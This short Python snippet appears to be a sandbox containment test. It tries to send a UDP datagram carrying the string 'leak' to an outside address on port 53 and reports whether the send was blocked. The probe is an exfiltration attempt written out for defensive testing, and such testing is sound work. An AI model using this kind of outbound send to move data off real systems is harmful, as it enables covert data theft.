# Attack: send UDP datagrams out (exfiltration without a handshake).
# Contained when sendto fails: there is no route off the loopback device.
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"leak", ("1.1.1.1", 53))
    print("SENT")
except OSError as e:
    print("blocked", e.errno)
